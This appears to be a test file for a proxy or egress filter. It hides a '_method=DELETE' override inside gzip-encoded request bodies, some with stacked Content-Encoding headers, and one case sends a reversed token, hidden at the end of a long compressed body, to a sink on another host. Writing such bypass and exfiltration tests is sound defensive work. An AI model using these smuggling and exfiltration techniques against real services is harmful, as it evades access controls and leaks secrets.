// Requests whose body is in an encoding: what is looked for is inside it. Each program tries many, and none may arrive.
// shared.test restricts DELETE.

// expected: refused, nothing sent whole
// seconds: 60
// unredacted: yes

const gzip = async (s) =>
  new Uint8Array(await new Response(new Blob([s]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer());
const long = Array.from(
  { length: 8 },
  () => Array.from(crypto.getRandomValues(new Uint8Array(65536))).map((b) => String.fromCharCode(97 + b % 26)).join(""),
).join("");
const send = async (type, encodings, text) => {
  const body = await gzip(text);
  const head = "POST /anything?t=TRIAL HTTP/1.1\r\nHost: shared.test\r\nAuthorization: Bearer SHARED_A_TOKEN\r\n" +
    (type ? "Content-Type: " + type + "\r\n" : "") +
    encodings.map((e) => "Content-Encoding: " + e + "\r\n").join("") + "Content-Length: " + body.length +
    "\r\nConnection: close\r\n\r\n";
  const all = new Uint8Array(head.length + body.length);
  all.set(new TextEncoder().encode(head));
  all.set(body, head.length);
  await raw("shared.test", "shared.test", all, { ms: 15000 });
};

// name: overrides in gzip
// judge: nothingWhole("override_unseen")
for (const type of ["text/plain", "application/octet-stream", "application/json", ""]) {
  await send(type, ["gzip"], '{"_method":"DELETE"}');
}
await send("text/plain", ["gzip"], '{"x":"' + long + '","_method":"DELETE"}');

// name: overrides in gzip that a second Content-Encoding names
// judge: nothingWhole("method_restricted")
for (const first of ["identity", ""]) {
  await send("application/x-www-form-urlencoded", [first, "gzip"], "_method=DELETE");
}

// name: a value that got out, at the end of a long gzipped body
// expected: never arrives
// judge: stuck
{
  const value = "REVERSED_HTTPBIN_TOKEN".split("").reverse().join("");
  await show(
    fetch("https://other.test/x/sink?t=TRIAL", {
      method: "POST",
      headers: { "Content-Encoding": "gzip" },
      body: await gzip(long + " " + value),
    }),
  );
}
